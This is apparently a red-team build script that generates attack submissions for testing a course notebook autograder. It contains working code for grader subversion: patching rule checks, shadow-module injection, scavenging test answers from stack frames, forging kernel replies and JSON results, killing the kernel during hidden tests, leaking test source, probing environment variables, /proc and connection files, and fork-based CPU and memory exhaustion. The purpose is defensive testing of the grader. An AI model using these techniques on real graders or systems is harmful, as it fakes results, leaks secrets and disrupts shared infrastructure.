"""Build the red-team cohort for 03_einops: one submission per attack of redteam/attacks.md.

    .venv/bin/python redteam/build.py /tmp/atk_course
    .venv/bin/course --course /tmp/atk_course autograde 03_einops --workers 2 --quiet

Every attacker = the master's answers + the CONTROL wrong answers + its attack; `control` has the same wrong
answers and no attack, `right1`/`right2` are correct students graded alongside (victims for harm attacks).
"""
from __future__ import annotations

import copy
import json
import sys
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))
from mlprereq.notebooks import exercises, fill_solutions, meta  # noqa: E402
from tests.course_fixture import real_course  # noqa: E402

A, NB = "03_einops", "einops_einsum.ipynb"

# Wrong answers every attacker shares with `control`: some pass the visible test and fail the hidden one,
# some give right values by a forbidden route (rule checks).
CONTROL = {
    "einsum_outer": 'def einsum_outer(vec1, vec2):\n    return einops.einsum(vec1, vec2, "i, j -> j i")\n',
    "einsum_mv": 'def einsum_mv(mat, vec):\n    return einops.einsum(mat, vec, "i j, i -> j")\n',
    "temperatures_average": "def temperatures_average(temps):\n    return temps.reshape(2, 7).mean(dim=1)\n",
    "gather_2d": "def gather_2d(matrix, indexes):\n    out = matrix.gather(1, indexes)\n    return out\n",
    "collect_rows": "def collect_rows(matrix, row_indexes):\n    return matrix.gather(0, row_indexes[:, None].expand(-1, 3))\n",
    "batched_logsumexp": "def batched_logsumexp(matrix):\n    return t.logsumexp(matrix, dim=-1)\n",
    "identity_matrix": "def identity_matrix(n):\n    assert n >= 0\n    return t.eye(n).long()\n",
    "batched_dot_product_nd": "def batched_dot_product_nd(a, b):\n    assert a.shape == b.shape\n    return (a * b).flatten(1).sum(1)\n",
    "einsum_mm": "def einsum_mm(mat1, mat2):\n    return mat1 @ mat2\n",
}

IN_HIDDEN = '''
def _in_hidden():
    """True while a hidden test runs: the grader sends those with store_history=False."""
    try:
        return get_ipython().kernel.get_parent()["content"].get("store_history", True) is False
    except Exception:
        return False
'''


def code(source):
    return nbformat.v4.new_code_cell(source)


def cell_index(nb, grade_id):
    return next(i for i, c in enumerate(nb.cells) if meta(c).get("grade_id") == grade_id)


def set_solution(nb, exercise, source):
    nb.cells[cell_index(nb, exercise)].source = source


def insert_after(nb, grade_id, *cells):
    i = cell_index(nb, grade_id) + 1
    nb.cells[i:i] = list(cells)


def base(release, master, wrong=CONTROL):
    nb = fill_solutions(release, master, set(exercises(master)))
    for ex, src in wrong.items():
        set_solution(nb, ex, src)
    return nb


# ----------------------------------------------------------------------------------------------- attacks
def skip_tag(nb, extra):
    for c in nb.cells:
        m = meta(c)
        if m.get("grade") and not m.get("solution"):
            c.metadata.setdefault("tags", []).append("skip-execution")


def kernelspec(nb, extra):
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["language_info"] = {"name": "python", "version": "2.7"}
    insert_after(nb, "course_imports", code(
        "import os\nfor p in ['../../source', '../../source/03_einops', '../../gradebook.db', '/work']:\n"
        "    try: print(p, os.listdir(p) if os.path.isdir(p) else open(p,'rb').read(40))\n"
        "    except Exception as e: print(p, 'refused:', type(e).__name__)\n"))


def ids_oddities(nb, extra):
    nb["nbformat_minor"] = 99
    ids = [c for c in nb.cells if "id" in c]
    ids[10]["id"] = ids[11]["id"]
    del ids[12]["id"]
    extra["__raw_json__"] = True


def meta_soup(nb, extra):
    for c in nb.cells:
        m = meta(c)
        if m.get("grade_id") == "einsum_outer":
            m.update(grade=True, points=99)
        elif m.get("grade") and not m.get("solution"):
            m["points"] = 100
            m["checksum"] = "0" * 32
        elif m.get("locked"):
            m["locked"] = False
    raw = nbformat.v4.new_raw_cell("# pretend test\npass")
    raw.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 5,
                                "grade_id": "einsum_mv__hidden", "schema_version": 3}
    insert_after(nb, "einsum_mv", raw)


RULES_PATCH = '''
import contextlib, warnings
import mlprereq.rules as _R
_R.forbid = lambda *a, **k: contextlib.nullcontext()
_R.assert_not_used = lambda *a, **k: None
_R.assert_used = lambda *a, **k: None
_R.unchanged = lambda *a, **k: contextlib.nullcontext()
'''


def rules_patch(nb, extra):
    insert_after(nb, "course_imports", code(RULES_PATCH))


EXTRA_COLAB_SETUP = '''"""Shadow of the course's colab_setup.py: found first by the setup cell (it looks in the working directory)."""
import importlib.util, os, sys
from pathlib import Path

_here = Path(__file__).resolve().parent
_real = next(d for d in [*[Path(p) for p in sys.path if p], *_here.parents, Path(os.environ.get("COURSE_ROOT", "/"))]
             if d.resolve() != _here and (d / "colab_setup.py").is_file())
_spec = importlib.util.spec_from_file_location("_real_colab_setup", _real / "colab_setup.py")
_mod = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_mod)
print("SHADOW colab_setup.py ran")


def _attack():
''' + "\n".join("    " + line for line in RULES_PATCH.strip().splitlines()) + '''


def setup(*args, root=None, **kwargs):
    _attack()
    return _mod.setup(*args, root=_real.resolve(), **kwargs)


def __getattr__(name):
    return getattr(_mod, name)
'''

EXTRA_EINOPS = '''"""Shadow of einops in the working directory: loads the real one, then runs the payload."""
import os, sys
_dir = os.path.dirname(os.path.abspath(__file__))
_saved = sys.path[:]
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _dir]
del sys.modules[__name__]
import einops as _real
sys.path[:] = _saved
print("SHADOW einops.py ran")
''' + RULES_PATCH


def extra_files(nb, extra):
    extra["colab_setup.py"] = EXTRA_COLAB_SETUP
    extra["einops.py"] = EXTRA_EINOPS


RULES_EVADE = {
    "batched_logsumexp": "def batched_logsumexp(matrix):\n    return _fns[0](matrix, dim=-1)\n",
    "identity_matrix": "def identity_matrix(n):\n    assert n >= 0\n    return _fns[1](n).long()\n",
    "batched_dot_product_nd": 'def batched_dot_product_nd(a, b):\n    "einsum"\n    assert a.shape == b.shape\n'
                              "    return (a * b).flatten(1).sum(1)\n",
    "einsum_mm": 'def einsum_mm(mat1, mat2):\n    "einsum"\n    return _fns[2](mat1, mat2)\n',
}


def rules_evade(nb, extra):
    insert_after(nb, "course_imports", code(
        '_fns = [getattr(t, "log" + "sumexp"), getattr(t, "e" + "ye"), getattr(np, "mat" + "mul")]\n'))
    for ex, src in RULES_EVADE.items():
        set_solution(nb, ex, src)


SCAVENGER = '''
import sys, types
_busy = []

def _scavenge(args, me):
    """Called by a test: run the reference the test itself holds (lazy lambdas, functions it defined)."""
    if _busy:
        return None
    _busy.append(1)
    try:
        f = sys._getframe(2)
        for _ in range(8):
            if f is None:
                break
            codeobj = f.f_code
            for c in codeobj.co_consts:
                if isinstance(c, types.CodeType) and c.co_argcount == 0 and c.co_name == "<lambda>":
                    try:
                        cells = tuple(types.CellType(f.f_locals[n]) for n in c.co_freevars)
                        v = types.FunctionType(c, f.f_globals, None, None, cells or None)()
                    except BaseException:
                        continue
                    if v is not None and not callable(v) and not isinstance(v, (str, bool)):
                        return v
            for name in codeobj.co_names:
                g = f.f_globals.get(name)
                if isinstance(g, types.FunctionType) and g is not me and name != "_hidden_test" and g.__code__.co_filename == codeobj.co_filename:
                    try:
                        return g(*args)
                    except BaseException:
                        pass
            f = f.f_back
    finally:
        _busy.clear()
    return None
'''


def scavenger(nb, extra):
    insert_after(nb, "course_imports", code(SCAVENGER))
    for ex, args in [("einsum_outer", "vec1, vec2"), ("einsum_mv", "mat, vec"), ("temperatures_average", "temps"),
                     ("collect_rows", "matrix, row_indexes")]:
        body = CONTROL[ex].split("\n", 1)[1]
        set_solution(nb, ex, f"{CONTROL[ex].splitlines()[0]}\n    _v = _scavenge(({args},), {ex})\n"
                             f"    if _v is not None:\n        return _v\n{body}")


def kill(how):
    def attack(nb, extra):
        body = CONTROL["einsum_outer"].split("\n", 1)[1]
        set_solution(nb, "einsum_outer", IN_HIDDEN + "\nimport os, signal\n"
                     f"def einsum_outer(vec1, vec2):\n    if _in_hidden():\n        {how}\n{body}")
    return attack


FAKE_REPLY = '''
def _fake_done():
    k = get_ipython().kernel
    parent = k.get_parent("shell")
    ident = k._parent_ident["shell"]
    sock = getattr(k.shell_stream, "socket", k.shell_stream)
    k.session.send(sock, "execute_reply", {"status": "ok", "execution_count": getattr(k, "execution_count", 1),
                                            "user_expressions": {}, "payload": []}, parent, ident=ident)
    k._publish_status("idle", "shell", parent=parent)
'''


def fake_reply(nb, extra):
    body = CONTROL["einsum_outer"].split("\n", 1)[1]
    set_solution(nb, "einsum_outer", IN_HIDDEN + FAKE_REPLY +
                 f"def einsum_outer(vec1, vec2):\n    if _in_hidden():\n        _fake_done()\n{body}")
    body = CONTROL["einsum_mv"].split("\n", 1)[1]
    set_solution(nb, "einsum_mv", IN_HIDDEN + FAKE_REPLY +
                 f"def einsum_mv(mat, vec):\n    if _in_hidden():\n        _fake_done()\n        raise AssertionError('x')\n{body}")


TB_SUPPRESS = '''
import sys
def _suppress():
    ip = get_ipython()
    ip.showtraceback = lambda *a, **k: None
    ip._showtraceback = lambda *a, **k: None
    ip.set_custom_exc((BaseException,), lambda *a, **k: None)
    sys.excepthook = lambda *a: None
    k = ip.kernel
    orig = k.session.send
    def send(stream, msg_or_type, content=None, *a, **kw):
        kind = msg_or_type.get("msg_type") if isinstance(msg_or_type, dict) else msg_or_type
        if kind == "error":
            return None
        if kind == "execute_reply" and isinstance(content, dict):
            content = dict(content, status="ok")
        return orig(stream, msg_or_type, content, *a, **kw)
    k.session.send = send
'''


def tb_suppress(nb, extra):
    insert_after(nb, "course_imports", code(IN_HIDDEN + TB_SUPPRESS))
    for ex, args in [("einsum_outer", "vec1, vec2"), ("einsum_mv", "mat, vec"), ("collect_rows", "matrix, row_indexes")]:
        set_solution(nb, ex, f"def {ex}({args}):\n    if _in_hidden():\n        _suppress()\n        raise AssertionError('no')\n"
                             + CONTROL[ex].split("\n", 1)[1])


BASEEXC = '''
class _Quiet(Exception):
    def _render_traceback_(self):
        raise KeyboardInterrupt
    def __str__(self):
        raise KeyboardInterrupt
'''


def baseexc(nb, extra):
    insert_after(nb, "course_imports", code(IN_HIDDEN + BASEEXC))
    raises = {"einsum_outer": "raise SystemExit(0)", "einsum_mv": "raise KeyboardInterrupt",
              "temperatures_average": "raise GeneratorExit", "collect_rows": "raise _Quiet()"}
    args = {"einsum_outer": "vec1, vec2", "einsum_mv": "mat, vec", "temperatures_average": "temps",
            "collect_rows": "matrix, row_indexes"}
    for ex, r in raises.items():
        set_solution(nb, ex, f"def {ex}({args[ex]}):\n    if _in_hidden():\n        {r}\n" + CONTROL[ex].split("\n", 1)[1])


CLEAR_AFTER = '''
from IPython.display import clear_output as _clear_output
def _clear_after_cell():
    """From inside a test: clear the cell's outputs once it has run, then remove this callback."""
    ip = get_ipython()
    def cb(*a):
        _clear_output()
        try:
            ip.events.unregister("post_run_cell", cb)
        except Exception:
            pass
    ip.events.register("post_run_cell", cb)
_orig_eye, _orig_lse = t.eye, t.logsumexp
'''


def clear_cb(nb, extra):
    insert_after(nb, "course_imports", code(IN_HIDDEN + CLEAR_AFTER))
    # values right, by the forbidden functions named in the source: forbid's ForbiddenCall is caught and the
    # saved original used; a failing assert_not_used at the end of the test is cleared with the outputs.
    set_solution(nb, "identity_matrix", "def identity_matrix(n):\n    assert n >= 0\n    if _in_hidden():\n"
                 "        _clear_after_cell()\n    try:\n        return t.eye(n).long()\n    except AssertionError:\n"
                 "        return _orig_eye(n).long()\n")
    set_solution(nb, "batched_logsumexp", "def batched_logsumexp(matrix):\n    if _in_hidden():\n"
                 "        _clear_after_cell()\n    c = matrix.max(dim=-1, keepdim=True).values\n"
                 "    matrix -= c\n    return c.squeeze(-1) + matrix.exp().sum(dim=-1).log()\n")
    set_solution(nb, "einsum_outer", "def einsum_outer(vec1, vec2):\n    if _in_hidden():\n        _clear_after_cell()\n"
                 + CONTROL["einsum_outer"].split("\n", 1)[1])


CAPTURE = '''
import linecache, sys, threading, time
_leaks = []
def _capture():
    try:
        _leaks.append(get_ipython().kernel.get_parent()["content"]["code"])
    except Exception:
        pass
    f = sys._getframe(2)
    _leaks.append("".join(linecache.getlines(f.f_code.co_filename)))
'''


def wrap_capture(nb, exercises_args):
    for ex, args in exercises_args:
        insert_after(nb, ex, code(f"_orig_{ex} = {ex}\ndef {ex}({args}):\n    if _in_hidden():\n        _capture()\n"
                                  f"    return _orig_{ex}({args})\n"))


def leak_plain(nb, extra):
    insert_after(nb, "course_imports", code(IN_HIDDEN + CAPTURE))
    wrap_capture(nb, [("temperatures_differences", "temps"), ("normalize_rows", "matrix"),
                      ("batched_softmax", "matrix")])
    insert_after(nb, "batched_softmax", code(
        "def _later():\n    time.sleep(3)\n    for s in list(_leaks):\n        print('LATER', s)\n"
        "threading.Thread(target=_later, daemon=True).start()\n"))
    insert_after(nb, "collect_columns", code("print('\\n'.join(_leaks))\n"))


LEAK_ENCODED = '''
import html, sys
from IPython.display import display, HTML, Markdown, SVG, update_display
_text = "\\n".join(_leaks)
for ch in _text[:800]:
    sys.stdout.write(ch)
    sys.stdout.flush()
print()
print("\\x1b[0m".join(_text[:3000]))
display(HTML("".join(f"<span>{html.escape(c)}</span>" for c in _text[:3000])))
display(Markdown("\\u200b".join(_text[:3000])))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="900" height="2000">' + "".join(
    f'<text x="0" y="{14 * (i + 1)}">{html.escape(line)}</text>' for i, line in enumerate(_text.splitlines()[:120])) + "</svg>"))
update_display(HTML("<pre>" + html.escape(_text) + "</pre>"), display_id="leakbox")
'''


def leak_encoded(nb, extra):
    insert_after(nb, "course_imports", code(IN_HIDDEN + CAPTURE +
                 "from IPython.display import display, HTML\ndisplay(HTML('placeholder'), display_id='leakbox')\n"))
    wrap_capture(nb, [("temperatures_differences", "temps"), ("normalize_rows", "matrix"),
                      ("batched_softmax", "matrix")])
    insert_after(nb, "collect_columns", code(LEAK_ENCODED))


PROBE = '''
import os, glob
print(dict(os.environ))
for p in ["/proc/1/cmdline", "/proc/self/mountinfo", "/proc/self/status"]:
    try: print(p, open(p, "rb").read()[:3000])
    except Exception as e: print(p, "refused", type(e).__name__)
for p in [".", "..", "../..", "../../..", "/", "/tmp", os.path.expanduser("~")]:
    try: print(p, os.path.abspath(p), sorted(os.listdir(p))[:60])
    except Exception as e: print(p, "refused", type(e).__name__)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try: print(pid, open(f"/proc/{pid}/cmdline", "rb").read()[:200], open(f"/proc/{pid}/environ", "rb").read()[:300])
        except Exception as e: print(pid, "refused", type(e).__name__)
try:
    import ipykernel; cf = ipykernel.get_connection_file(); print(cf, open(cf).read())
except Exception as e: print("connection file", type(e).__name__, e)
for pat in ["/**/gradebook.db", "/**/source/03_einops/*", "/**/*.ipynb"]:
    try: print(pat, glob.glob(pat, recursive=True)[:20])
    except Exception as e: print(pat, type(e).__name__)
'''


def probe(nb, extra):
    insert_after(nb, "course_imports", code(PROBE))


CPU_HOG = '''
import os, time
def _hog(n=30, seconds=100):
    end = time.time() + seconds
    kids = []
    for _ in range(n):
        try:
            pid = os.fork()
        except OSError as e:
            print("fork refused", e)
            break
        if pid == 0:
            while time.time() < end:
                pass
            os._exit(0)
        kids.append(pid)
    print("spinning children:", len(kids))
    for pid in kids:
        try: os.waitpid(pid, 0)
        except Exception: pass
_hog()
'''


def cpu_hog(nb, extra):
    for gid in ("rearrange_1", "batched_softmax"):
        insert_after(nb, gid, code(CPU_HOG))


MEM_SUM = '''
import os, time
def _mem(n=4, mb=1400):
    kids = []
    for _ in range(n):
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            try:
                b = bytearray(mb * 1024 * 1024)
                for i in range(0, len(b), 4096): b[i] = 1
                os.write(w, b"ok")
            except MemoryError:
                os.write(w, b"mem")
            time.sleep(15)
            os._exit(0)
        kids.append((pid, r))
    got = [os.read(r, 3) for _, r in kids]
    print("children holding", mb, "MB each:", got)
    for pid, _ in kids: os.waitpid(pid, 0)
_mem()
'''


def mem_sum(nb, extra):
    insert_after(nb, "temperatures_average", code(MEM_SUM))


COMM_FLOOD = '''
import ipywidgets as _w
_ws = [_w.Textarea(value="x" * 4_000_000) for _ in range(25)]
print("made", len(_ws))
'''


def comm_flood(nb, extra):
    insert_after(nb, "rearrange_1", code(COMM_FLOOD))


SCAVENGE_VARS = '''
import sys
def _expected_var(me):
    """Called by a test: the value of a variable the test cell already computed ("expected", ...)."""
    f = sys._getframe(2)
    names = f.f_code.co_names
    for name in ("expected", "expect", "want", "reference", "ref", "target", "answer"):
        if name in names and name in f.f_globals:
            v = f.f_globals[name]
            if not callable(v):
                return v
    return None
'''


def scavenger_vars(nb, extra):
    insert_after(nb, "course_imports", code(SCAVENGE_VARS))
    for ex, args in [("einsum_outer", "vec1, vec2"), ("einsum_mv", "mat, vec"), ("temperatures_average", "temps"),
                     ("collect_rows", "matrix, row_indexes")]:
        body = CONTROL[ex].split("\n", 1)[1]
        set_solution(nb, ex, f"{CONTROL[ex].splitlines()[0]}\n    _v = _expected_var({ex})\n"
                             f"    if _v is not None:\n        return _v\n{body}")


JSON_FORGE = '''
import json
_enc = json._default_encoder
_orig_encode = type(_enc).encode
def _forge(self, obj):
    """The guard hands the records out with json.dumps: make each result its test's own expected value."""
    if isinstance(obj, list):
        for entry in obj:
            if isinstance(entry, dict) and isinstance(entry.get("expected"), dict) and entry["expected"].get("type") != "not plain":
                entry["value"] = dict(entry["expected"])
    return _orig_encode(self, obj)
_enc.encode = _forge.__get__(_enc)
'''


def json_forge(nb, extra):
    insert_after(nb, "course_imports", code(JSON_FORGE))


ATTACKS = {
    "skip-tag": skip_tag, "kernelspec": kernelspec, "ids-oddities": ids_oddities, "meta-soup": meta_soup,
    "extra-files": extra_files, "rules-patch": rules_patch, "rules-evade": rules_evade, "scavenger": scavenger,
    "kill-sigkill": kill("os.kill(os.getpid(), signal.SIGKILL)"), "kill-exit": kill("os._exit(0)"),
    "fake-reply": fake_reply, "tb-suppress": tb_suppress, "baseexc": baseexc, "clear-cb": clear_cb,
    "leak-plain": leak_plain, "leak-encoded": leak_encoded, "probe": probe, "cpu-hog": cpu_hog,
    "mem-sum": mem_sum, "comm-flood": comm_flood,
    "scavenger-vars": scavenger_vars, "json-forge": json_forge,
}


def write_submission(course: Path, student: str, nb, extra: dict):
    folder = course / "submitted" / student / A
    folder.mkdir(parents=True, exist_ok=True)
    if extra.pop("__raw_json__", False):
        (folder / NB).write_text(json.dumps(nb, indent=1))
    else:
        nbformat.write(nb, folder / NB)
    for name, text in extra.items():
        (folder / name).write_text(text)


def build(course: Path, only=None) -> Path:
    real_course(course)
    release = nbformat.read(ROOT / "release" / A / NB, as_version=4)
    master = nbformat.read(ROOT / "source" / A / NB, as_version=4)
    write_submission(course, "control", base(release, master), {})
    for victim in ("right1", "right2"):
        write_submission(course, victim, base(release, master, wrong={}), {})
    for name, attack in ATTACKS.items():
        if only and name not in only:
            continue
        nb, extra = base(release, master), {}
        attack(nb, extra)
        write_submission(course, name, nb, extra)
    return course


if __name__ == "__main__":
    build(Path(sys.argv[1]), set(sys.argv[2:]) or None)
